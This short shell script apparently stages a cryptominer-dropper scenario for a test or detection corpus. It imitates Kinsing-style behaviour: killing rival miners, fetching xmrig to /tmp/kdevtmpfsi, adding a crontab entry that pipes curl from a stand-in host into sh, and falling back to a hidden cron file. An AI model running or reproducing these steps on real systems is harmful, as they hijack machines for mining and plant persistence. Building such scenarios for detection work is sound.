# 1: a dropper in a container. sh -> curl -> chmod -> /tmp/kdevtmpfsi, rivals killed, crontab tried.
. /opt/corpus/scenarios/lib.sh
decoy kinsing; decoy xmr-stak; sleep 1
sh -c 'ps aux | grep -E "kinsing|xmr-stak" | grep -v grep | tr -s " " | cut -d" " -f2 | while read -r pid; do kill -9 $pid; done'
rm -rf /tmp/kdevtmpfsi; fetch xmrig /tmp/kdevtmpfsi; chmod +x /tmp/kdevtmpfsi
(echo '* * * * * curl -s http://203.0.113.1/k.sh | sh' | crontab -) 2>/dev/null || { mkdir -p /tmp/.cron; echo '* * * * * /tmp/kdevtmpfsi' >/tmp/.cron/root; }
nohup /tmp/kdevtmpfsi $POOL_ARGS &
wait
